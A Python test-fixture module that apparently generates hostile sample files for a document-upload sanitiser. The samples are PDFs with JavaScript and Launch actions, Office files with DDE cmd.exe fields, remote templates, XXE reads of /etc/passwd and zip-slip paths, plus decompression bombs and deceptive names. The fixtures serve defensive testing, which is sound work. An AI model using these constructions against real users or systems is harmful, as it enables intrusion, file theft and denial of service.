"""Files nobody should send, made in code: ``(name, contents, reason of the refusal)``."""

import io
import struct
import zipfile
import zlib

import pikepdf

from pore.files.formats import LARGEST
from pore.files.tests import samples
from pore.files.tests.samples import OFFICE_RELS, docx, docx_parts, noise, odf_parts, odt, pdf, picture, raw_pdf, zipped

SCRIPT = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
PAGE = b"<!doctype html><script>alert(document.domain)</script>"
XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
TAG = '<w:p xmlns:w="x">'


# --- PDF ---
def _root(**entries):
    def change(document):
        for name, value in entries.items():
            document.Root[f"/{name}"] = value

    return change


def _launch(document):
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    document.pages[0].Annots = pikepdf.Array(
        [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=action)]
    )


def _attachment(document):
    document.attachments["x.exe"] = b"MZ program"


def _packed_objects(padding):
    """A sound page, and a script in a packed stream of objects behind this many spaces."""
    body = b"%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 9 0 R>>endobj\n"
    body += b"2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
    body += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<<>>>>endobj\n"
    places = [body.index(b"%d 0 obj" % number) for number in (1, 2, 3)]
    packed = zlib.compress(b"9 0 " + b" " * padding + b"<</S/JavaScript/JS(x)>>", 1)
    places.append(len(body))
    body += b"8 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    body += packed + b"\nendstream endobj\n"
    rows = [(1, place, 0) for place in places] + [(2, 8, 0), (1, len(body), 0)]
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"10 0 obj<</Type/XRef/Size 11/W[1 4 1]/Index[1 3 8 3]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def _catalogue(rest):
    return b"<</Type/Catalog/Pages 2 0 R" + rest + b">>"


def _hidden_script():
    """Letters of the names written as numbers, in an object nothing refers to."""
    return raw_pdf(_catalogue(b""), b"<</S/J#61vaScr#69pt/J#53(app.alert\\(1\\))>>")


def _deep():
    return raw_pdf(_catalogue(b"/Deep" + b"[" * 5000 + b"]" * 5000))


def _wide():
    return raw_pdf(_catalogue(b"/Wide[" + b"[]" * 200_000 + b"]"))


PDFS = [
    ("skrypt.pdf", lambda: pdf(_root(OpenAction=SCRIPT)), "active"),
    ("skrypt-luzem.pdf", lambda: pdf(_root(Spare=pikepdf.Array([pikepdf.Dictionary(A=SCRIPT)]))), "active"),
    ("skrypt-w-nazwach.pdf", lambda: pdf(_root(Names=pikepdf.Dictionary(JavaScript=pikepdf.Dictionary()))), "active"),
    ("skrypt-ukryty.pdf", _hidden_script, "active"),
    ("uruchom.pdf", lambda: pdf(_launch), "active"),
    ("formularz.pdf", lambda: pdf(_root(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String("x")))), "active"),
    ("wyslij.pdf", lambda: pdf(_root(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.SubmitForm))), "active"),
    ("film.pdf", lambda: pdf(_root(Spare=pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia))), "active"),
    (
        "w-strumieniu.pdf",
        lambda: pdf(_root(OpenAction=SCRIPT), object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "active",
    ),
    ("z-plikiem.pdf", lambda: pdf(_attachment), "carrying"),
    ("spinacz.pdf", lambda: pdf(_root(Spare=pikepdf.Dictionary(Subtype=pikepdf.Name.FileAttachment))), "carrying"),
    ("haslo.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="x", owner="y")), "encrypted"),
    ("haslo-wlasciciela.pdf", lambda: pdf(encryption=pikepdf.Encryption(user="", owner="y")), "encrypted"),
    ("uciety.pdf", lambda: pdf()[:400], "broken"),
    ("bez-konca.pdf", lambda: pdf().replace(b"%%EOF", b""), "broken"),
    ("same-poczatek.pdf", lambda: b"%PDF-1.7\n", "broken"),
    ("bez-stron.pdf", lambda: samples.saved(pikepdf.new().save), "broken"),
    ("smieci.pdf", lambda: b"%PDF-1.7\n" + noise(0.1) + b"%%EOF", "broken"),
    ("strona-i-pdf.pdf", lambda: PAGE + pdf(), "mismatch"),
    ("pdf-i-strona.pdf", lambda: pdf().replace(b"%PDF-1.", b"%PDF-1.7" + PAGE + b"%", 1), "mismatch"),
    ("pdf-i-archiwum.pdf", lambda: pdf() + zipped({"x.js": "alert(1)"}), "mismatch"),
    ("dwa-naraz.pdf", lambda: pdf() + PAGE, "mismatch"),
    ("spakowany-skrypt.pdf", lambda: _packed_objects(9), "active"),
    ("bomba-obiektow.pdf", lambda: _packed_objects(400_000_000), "heavy"),
    ("gleboki.pdf", _deep, "broken"),
    ("szeroki.pdf", _wide, "heavy"),
]


# --- Office ---
def _with_entry(info, contents=b"x"):
    return zipped({**docx_parts(), info: contents})


def _link():
    info = zipfile.ZipInfo("word/link.xml")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    return _with_entry(info, "/etc/passwd")


def _bomb(copies=1):
    return docx({f"word/media/{number}.bin": bytes(30 * 1024 * 1024) for number in range(copies)})


def _lying_bomb():
    """Declares a hundred bytes and unpacks to thirty million."""
    out = io.BytesIO(docx({"word/media/a.bin": bytes(30 * 1024 * 1024)}))
    data = bytearray(out.getvalue())
    with zipfile.ZipFile(out) as archive:
        size = struct.pack("<L", archive.getinfo("word/media/a.bin").file_size)
    return bytes(data.replace(size, struct.pack("<L", 100)))


def _many():
    return docx({f"word/media/{number}.xml": "" for number in range(1200)})


def _nested():
    inner = zipped({"zeros": bytes(30 * 1024 * 1024)})
    return docx({"word/media/image1.bin": inner})


def _locked_entry():
    data = bytearray(docx())
    central = data.index(b"PK\x01\x02")
    data[central + 8] |= 1
    return bytes(data)


def _twice():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", PAGE)
    return out.getvalue()


def _commented():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = PAGE
    return out.getvalue()


def _fetching(kind, target):
    return lambda: docx(links=[(f"{OFFICE_RELS}/{kind}", target, "External")])


def _docm():
    return docx(main="application/vnd.ms-word.document.macroEnabled.main+xml")


TEMPLATE = f"{OFFICE_RELS}/attachedTemplate"
FIELD = "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r></w:p>"
FOOTER = '<?xml version="1.0" encoding="UTF-16"?><f:ftr xmlns:f="y"><f:instrText>dde</f:instrText></f:ftr>'
WORDS = [
    ("makro.docx", lambda: docx({"word/vbaProject.bin": OLE}), "macros"),
    ("makro-pod-inna-nazwa.docx", _docm, "macros"),
    ("makro-excela4.xlsx", lambda: zipped({**docx_parts(), "xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    ("activex.docx", lambda: docx({"word/activeX/activeX1.xml": "<a/>"}), "macros"),
    (
        "szablon.docx",
        lambda: docx({"word/_rels/settings.xml.rels": samples.relations((TEMPLATE, "http://x/a.dotm", "External"))}),
        "external",
    ),
    ("obraz-z-sieci.docx", _fetching("image", "http://tracker.example/1.png"), "external"),
    ("ole-z-sieci.docx", _fetching("oleObject", "http://x/a.hta"), "embedded"),
    ("odnosnik-do-dysku.docx", _fetching("hyperlink", "file://serwer/c$/x"), "external"),
    ("ole.docx", lambda: docx({"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    ("ole-w-obrazach.docx", lambda: docx({"word/media/image1.png": OLE}), "embedded"),
    ("program.docx", lambda: docx({"word/media/image1.png": b"MZ\x90\x00"}), "embedded"),
    ("dde.docx", lambda: docx(body=FIELD), "external"),
    ("dde-w-stopce.docx", lambda: docx({"word/footer1.xml": FOOTER.encode("utf-16")}), "external"),
    ("dde-proste.docx", lambda: docx(body='<w:fldSimple w:instr="dde excel x"/>'), "external"),
    ("xxe.docx", lambda: docx({"word/document.xml": f"{XXE}{TAG}&x;</w:p>"}), "external"),
    ("xxe-w-naglowku.docx", lambda: docx({"word/header1.xml": f"{XXE}<a>&x;</a>"}), "external"),
    ("xxe-w-spisie.docx", lambda: docx({"[Content_Types].xml": f"{XXE}<Types>&x;</Types>"}), "external"),
    ("smiech.docx", lambda: docx({"word/document.xml": f"{LAUGHS}{TAG}&b;</w:p>"}), "external"),
    ("zepsuty-xml.docx", lambda: docx({"word/document.xml": "<w:document"}), "broken"),
    ("nie-tekst.docx", lambda: zipped({"a.txt": "x"}), "mismatch"),
    ("arkusz-jako-tekst.docx", samples.xlsx, "mismatch"),
    ("tekst-jako-arkusz.xlsx", docx, "mismatch"),
    ("inne-arkusze.xlsx", lambda: zipped({**docx_parts(), "xl/externalLinks/externalLink1.xml": "<a/>"}), "external"),
    ("bomba.docx", _bomb, "unpacks"),
    ("bomba-duza.xlsx", lambda: _bomb(2), "unpacks"),
    ("bomba-klamie.docx", _lying_bomb, "broken"),
    ("bomba-w-bombie.docx", _nested, "embedded"),
    ("tysiac-czesci.docx", _many, "unpacks"),
    ("poza.docx", lambda: _with_entry(zipfile.ZipInfo("../../etc/cron.d/x")), "broken"),
    ("bezwzgledna.docx", lambda: _with_entry(zipfile.ZipInfo("/etc/passwd")), "broken"),
    ("dysk.docx", lambda: _with_entry(zipfile.ZipInfo("C:/x.xml")), "broken"),
    ("dowiazanie.docx", _link, "broken"),
    ("dwa-razy.docx", _twice, "broken"),
    ("zamkniety.docx", _locked_entry, "encrypted"),
    ("ciag-dalszy.docx", lambda: docx() + PAGE, "mismatch"),
    ("z-dopiskiem.docx", _commented, "mismatch"),
    ("uciety.xlsx", lambda: samples.xlsx()[:-200], "broken"),
    ("przestawiony.docx", lambda: docx()[:300] + b"X" * 40 + docx()[340:], "broken"),
    ("stary-word.docx", lambda: OLE, "mismatch"),
]


# --- OpenDocument ---
def _body(xml):
    return lambda: odt(body=xml)


LISTENER = '<office:event-listeners><script:event-listener script:language="ooo:script"/></office:event-listeners>'
OPEN = [
    ("makro.odt", lambda: odt({"Basic/Standard/Module1.xml": "<a/>"}), "macros"),
    ("skrypt.odt", lambda: odt({"Scripts/python/x.py": "import os"}), "macros"),
    ("zdarzenie.odt", _body(LISTENER), "macros"),
    ("obraz-z-sieci.odt", _body('<draw:image xlink:href="https://tracker.example/1.png"/>'), "external"),
    ("obraz-obok.odt", _body('<draw:image xlink:href="../../etc/passwd"/>'), "external"),
    ("skrypt-w-odnosniku.odt", _body('<text:a xlink:href="javascript:alert(1)">x</text:a>'), "external"),
    ("inny-arkusz.ods", lambda: zipped(odf_parts("spreadsheet", '<table:table-source xlink:href="x"/>')), "external"),
    ("haslo.odt", lambda: odt(manifest="<m:file-entry><m:encryption-data/></m:file-entry>"), "encrypted"),
    ("ole.odt", lambda: odt({"Object 1": OLE}), "embedded"),
    ("arkusz-jako-tekst.odt", samples.ods, "mismatch"),
    ("xxe.odt", lambda: odt({"styles.xml": f"{XXE}<a>&x;</a>"}), "external"),
    ("rodzaj-nie-pierwszy.odt", lambda: zipped(dict(reversed(odf_parts().items()))), "mismatch"),
    (
        "bez-tresci.odt",
        lambda: zipped({name: text for name, text in odf_parts().items() if name != "content.xml"}),
        "broken",
    ),
]


# --- Pictures ---
def _claims(width, height):
    """A PNG whose header promises these measures."""
    data = bytearray(picture())
    data[16:24] = struct.pack(">LL", width, height)
    data[29:33] = struct.pack(">L", zlib.crc32(bytes(data[12:29])))
    return bytes(data)


def _flat(width, height):
    """A PNG of one colour with these true measures, small on the disk."""

    def chunk(kind, data):
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    rows = zlib.compress((b"\0" + bytes(width)) * height, 9)
    header = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _text_bomb():
    data = picture()
    packed = b"k\0\0" + zlib.compress(bytes(200_000_000), 9)
    chunk = struct.pack(">L", len(packed)) + b"zTXt" + packed + struct.pack(">L", zlib.crc32(b"zTXt" + packed))
    return data[:33] + chunk + data[33:]


PICTURES = [
    ("ogromny.png", lambda: _claims(30_000, 30_000), "pixels"),
    ("za-duzy.png", lambda: _flat(5001, 5000), "pixels"),
    ("za-duzy.jpg", lambda: picture("JPEG", (5001, 5000)), "pixels"),
    ("obiecuje.png", lambda: _claims(4000, 4000), "broken"),
    ("uciety.png", lambda: picture(size=(400, 400))[:-60], "broken"),
    ("uciety.jpg", lambda: picture("JPEG", (400, 400))[:1200], "broken"),
    ("bomba-w-opisie.png", _text_bomb, "broken"),
    ("rysunek.png", lambda: SVG, "mismatch"),
    ("jpeg.png", lambda: picture("JPEG"), "mismatch"),
    ("gif.png", lambda: picture("GIF"), "mismatch"),
    ("strona.jpg", lambda: PAGE, "mismatch"),
    ("naglowek.jpg", lambda: b"\xff\xd8\xff" + PAGE, "broken"),
]

# --- Names and sizes ---
NAMES = [
    ("rysunek.svg", lambda: SVG, "ending"),
    ("strona.html", lambda: PAGE, "ending"),
    ("program.exe", lambda: b"MZ", "ending"),
    ("umowa.pdf.exe", pdf, "ending"),
    ("tabela\u202efdp.exe", lambda: b"MZ", "ending"),
    ("bez-konca", pdf, "ending"),
    (".pdf", pdf, "ending"),
    ("makro.docm", _docm, "ending"),
    ("stary.doc", lambda: OLE, "ending"),
    ("pusty.pdf", lambda: b"", "empty"),
    ("o-jeden-za-duzy.pdf", lambda: b"%PDF-1.7" + bytes(LARGEST - 7), "large"),
]
HOSTILE = [*PDFS, *WORDS, *OPEN, *PICTURES, *NAMES]
